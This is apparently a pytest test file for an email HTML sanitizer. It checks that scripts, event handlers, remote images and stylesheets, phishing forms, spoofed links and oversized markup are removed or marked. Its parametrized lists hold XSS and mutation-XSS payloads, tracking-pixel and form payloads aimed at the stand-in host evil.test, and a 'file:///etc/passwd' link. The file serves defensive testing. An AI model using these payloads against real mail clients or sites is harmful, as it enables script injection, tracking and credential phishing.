"""Hostile mail, made safe to show."""

import time

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from portal import markup
from portal.cleaner import PATIENCE, cleaned
from portal.mail_html import LARGEST, LARGEST_PICTURE, MOST_PICTURES, TAGS, clean, has_remote_pictures
from tests.hostile.mails import EVIL, HTML

PIXEL = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw=="


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src='https://evil.test/pixel.gif'>",
        "<img src='//evil.test/pixel.gif'>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
        "<img srcset='https://evil.test/pixel.gif 2x'>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='/sign-out'>x</a>",
        "<a href='vbscript:x'>x</a>",
        "<a href='file:///etc/passwd'>x</a>",
        "<img src='https://evil.test/1' srcset='https://evil.test/2 2x' style='background:red url(https://evil.test/3)'>",
        "<a href='//evil.test'>x</a>",
        "<form action='https://evil.test'><input name=password><button>Go</button></form>",
        "<iframe src='https://evil.test'></iframe>",
        "<object data='https://evil.test'></object><embed src='https://evil.test'>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
        "<style>@import 'https://evil.test/x.css'</style>",
        "<link rel=stylesheet href='https://evil.test/x.css'>",
        "<meta http-equiv=refresh content='0;url=https://evil.test'>",
        "<base href='https://evil.test'>",
        "<div style=\"background:url('https://evil.test/x.png')\">x</div>",
        "<div style='background-image:u\\72l(https://evil.test/x.png)'>x</div>",
        "<div style='position:fixed;top:0;left:0'>x</div>",
        "<table background='https://evil.test/x.png'><tr><td>x</table>",
        "<video src='https://evil.test/x.mp4' autoplay></video><audio src='https://evil.test'></audio>",
        "<p onclick='alert(1)'>x</p>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<template><img src=x onerror=alert(1)></template>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
    ],
)
def test_what_acts_or_loads_is_gone(hostile: str) -> None:
    """Scenario 109."""
    cleaned = clean(f"<p>before</p>{hostile}<p>after</p>").lower()
    assert "before" in cleaned
    assert "after" in cleaned
    for sign in (
        "evil.test",
        "script",
        "alert",
        "onerror",
        "onclick",
        "position",
        "<form",
        "<input",
        "<iframe",
        "url",
        "/sign-out",
        "<style",
    ):
        assert sign not in cleaned


@given(
    st.lists(
        st.sampled_from(["<", ">", "</", "script", "img", " src=", "'", '"', "x", " onload=", "<!--", "-->", "svg", "style", "<p>", "&lt;"])
    )
)
def test_whatever_the_pieces_only_known_tags_come_out(pieces: list[str]) -> None:
    shown = clean("".join(pieces))
    assert "".join(piece.source for piece in markup.pieces(shown)) == shown
    tags = BeautifulSoup(shown, "html.parser").find_all(True)
    assert {tag.name for tag in tags} <= TAGS
    assert not [name for tag in tags for name in tag.attrs if name.startswith("on")]


def test_what_a_mail_says_and_how_it_is_laid_out_stays() -> None:
    source = (
        "<table width=600 bgcolor='#eeeeee'><tr><td style='color: red; padding: 4px' colspan=2><b>Dear</b> <i>Sam</i></td></tr></table>"
    )
    cleaned = clean(source)
    for kept in ('width="600"', 'bgcolor="#eeeeee"', "color:red", "padding:4px", 'colspan="2"', "<b>Dear</b>", "<i>Sam</i>"):
        assert kept in cleaned.replace(": ", ":")


def test_a_picture_that_the_mail_carries_itself_is_shown_unless_it_is_huge() -> None:
    """Scenario 109."""
    assert PIXEL in clean(f"<img src='{PIXEL}'>")
    assert "base64" not in clean(f"<img src='data:image/png;base64,{'A' * LARGEST_PICTURE}'>")


def test_links_open_elsewhere_and_tell_nothing() -> None:
    link = BeautifulSoup(clean("<a href='https://example.com/a?b=c' target=_top>x</a>"), "html.parser").find("a")
    assert link is not None
    assert link["href"] == "https://example.com/a?b=c"
    assert link["target"] == "_blank"
    assert 'rel="noopener noreferrer"' in str(link)


@pytest.mark.parametrize("source", ["<b><p>" * 20_000, "<a href='" * 50_000, "x" * (LARGEST * 3), "\0<p>x\0</p>", "\ud800<p>x"])
async def test_broken_mail_is_shown_all_the_same(source: str) -> None:
    """Scenario 107."""
    shown = await cleaned(source)
    assert shown is not None
    assert len(shown) < 2 * LARGEST
    assert shown.endswith("</body></html>")


@pytest.mark.parametrize(
    "source",
    [
        "<div>" * 200_000,  # minutes
        "<p>" + "".join(f"<i title={n}>" for n in range(20_000)) + "</p>" + "<p>x</p>" * 20_000,  # 400 million elements
    ],
)
async def test_a_mail_made_to_hurt_costs_its_allowance_and_no_more(source: str) -> None:
    """Scenario 109."""
    began = time.monotonic()
    assert await cleaned(source, allowance=1) is None
    assert time.monotonic() - began < PATIENCE


PNG = "data:image/png;base64,iVBORw0KGgo="
REPLY = (
    "<div>Yes, gladly.</div><div class=gmail_quote><div class=gmail_attr>On Tue, 3 Mar 2026 Sam wrote:</div>"
    "<blockquote class=gmail_quote><p>Shall we?</p></blockquote></div>"
)
OUTLOOK = "<div id=divRplyFwdMsg><b>From:</b> Sam<br><b>Sent:</b> Tuesday</div><p>Shall we?</p>"
TOP_LINE = (
    "<div><div style='border:none;border-top:solid #E1E1E1 1.0pt'><p><b>Von:</b> Sam<br><b>Gesendet:</b> heute</p></div></div>"
    "<p>Shall we?</p>"
)


def folded(source: str) -> list[str]:
    return [fold.get_text(" ", strip=True) for fold in BeautifulSoup(clean(source), "html.parser").select("details.postroom-earlier")]


@pytest.mark.parametrize("hostile", HTML.values(), ids=HTML.keys())
def test_nothing_remote_is_left_of_a_hostile_mail_but_where_its_links_lead(hostile: str) -> None:
    """Scenario 109."""
    dom = BeautifulSoup(clean(hostile), "html.parser")
    for tag in dom.find_all(True):
        assert tag.name in TAGS
        assert "evil.test" not in "".join(str(value) for name, value in tag.attrs.items() if name not in ("href", "title"))


@pytest.mark.parametrize(
    ("written", "asked"),
    [
        ("https://example.com/a.png", "https://example.com/a.png"),
        ("http://example.com/a.png", "https://example.com/a.png"),
        ("//example.com/a.png", "https://example.com/a.png"),
        ("a.png", None),
        ("/sign-out", None),
        ("data:image/svg+xml;base64,PHN2Zz4=", None),
    ],
)
def test_pictures_from_elsewhere_come_over_https_and_only_when_asked_for(written: str, asked: str | None) -> None:
    """Scenario 109."""
    source = f"<img src='{written}' alt='Our logo'>"
    assert clean(source) == '<img alt="Our logo">'
    shown = BeautifulSoup(clean(source, remote=True), "html.parser").find("img")
    assert shown is not None
    assert shown.get("src") == asked
    assert shown["alt"] == "Our logo"


def test_it_is_known_whether_a_mail_has_pictures_from_elsewhere() -> None:
    for source in ("<img src=https://a.test/b>", "<IMG alt='a > b' SRC = '//a.test/b'>", f"<img src='{EVIL}'>"):
        assert has_remote_pictures(source)
    for source in ("<a href='https://a.test'>x</a>", "<img src='cid:a'> https://a.test", f"<img src='{PNG}'>"):
        assert not has_remote_pictures(source)


def test_pictures_that_came_with_the_mail_are_written_into_it_up_to_a_limit() -> None:
    """Scenario 109."""
    inline = {"logo@example.com": PNG}
    for written in ("cid:logo@example.com", "CID:logo%40example.com"):
        assert clean(f"<img src='{written}'>", inline) == f'<img src="{PNG}">'
    assert clean("<img src='cid:another' alt='Logo'>", inline) == '<img alt="Logo">'
    assert clean("<a href='cid:logo@example.com'>x</a>", inline).count("cid:") == 0
    large = "data:image/png;base64," + "A" * (MOST_PICTURES // 3)
    assert clean("<img src='cid:a'>" * 5, {"a": large}).count("base64") == 2


def test_a_link_says_where_it_leads_and_warns_where_its_words_say_otherwise() -> None:
    """Scenario 109."""
    plain = BeautifulSoup(
        clean("<a href='https://docs.example.com/a' title='https://bank.example'>the <b title=x>docs</b></a>"), "html.parser"
    )
    assert [link["title"] for link in plain.select("a")] == ["Leads to docs.example.com"]
    assert plain.select("[title=x], .postroom-leads") == []
    other = BeautifulSoup(clean("<a href='https://evil.test/login'>https://<b>bank</b>.example</a>"), "html.parser")
    assert [mark.get_text() for mark in other.select(".postroom-leads")] == ["⚠ leads to evil.test"]


def test_a_link_around_a_table_with_links_is_marked_too() -> None:
    """Scenario 109."""
    source = "<a href='https://evil.test'>https://bank.example<table><tr><td><a href='https://docs.test'>docs</a></td></tr></table></a>"
    assert clean(source).count("⚠ leads to evil.test") == 1


def test_no_sender_can_wear_our_marks_or_turn_the_words_of_a_link() -> None:
    """Scenario 109."""
    assert "postroom" not in clean(
        "<span class='postroom-leads'>x</span><details class='postroom-earlier'>y</details><p id=postroom-leads>z"
    )
    assert "\u202e" not in clean("<a href='https://evil.test'>\u202eknab &#8238;</a>")


@pytest.mark.parametrize(
    ("source", "hidden"),
    [
        (REPLY, ["Shall we?"]),
        ("<p>Yes</p><blockquote type=cite>Shall we?</blockquote>", ["Shall we?"]),
        (f"<p>Yes</p><hr>{OUTLOOK}", ["From: Sam Sent: Tuesday Shall we?"]),
        (f"<div class=WordSection1><p>Yes</p>{TOP_LINE}</div><p>After it</p>", ["Von: Sam Gesendet: heute Shall we?"]),
        ("<p>Yes</p><div class=yahoo_quoted>Shall we?</div>", ["Shall we?"]),
        ("<p>Ja</p><div name=quote>Shall we?</div>", ["Shall we?"]),
        ("<p>Yes</p><blockquote type=cite>Shall we?<blockquote type=cite>May we?</blockquote></blockquote>", ["Shall we? May we?"]),
    ],
)
def test_quoted_history_is_folded_and_nothing_is_lost(source: str, hidden: list[str]) -> None:
    found = folded(source)
    assert [fold.removeprefix("Earlier in this thread ") for fold in found] == hidden
    assert (
        BeautifulSoup(clean(source), "html.parser").get_text().replace("Earlier in this thread", "")
        == BeautifulSoup(source, "html.parser").get_text()
    )


@pytest.mark.parametrize(
    "source",
    [
        "<blockquote type=cite>Nothing but this</blockquote>",
        "<div class=gmail_attr>On Tue, 3 Mar 2026 Sam wrote:</div><blockquote class=gmail_quote>Nothing but this</blockquote>",
        "<p>For you</p><div class=gmail_quote>---------- Forwarded message ---------<p>What is forwarded</p></div>",
        "<p>As it says:</p><blockquote>An indented paragraph</blockquote>",
        "<p>Hello</p><div style='border-top:1px solid red'>An ordinary box</div><p>more</p>",
        "<blockquote type=cite></blockquote><p>Hello</p>",
    ],
)
def test_what_is_all_quotation_or_none_stays_open(source: str) -> None:
    assert folded(source) == []


def test_answers_between_quoted_lines_are_seen_and_so_is_what_they_answer() -> None:
    source = (
        "<blockquote type=cite>May we?</blockquote><p>Yes.</p><blockquote type=cite>And then?</blockquote><p>Wait.</p>"
        "<blockquote type=cite>The rest</blockquote>"
    )
    assert folded(source) == ["Earlier in this thread The rest"]
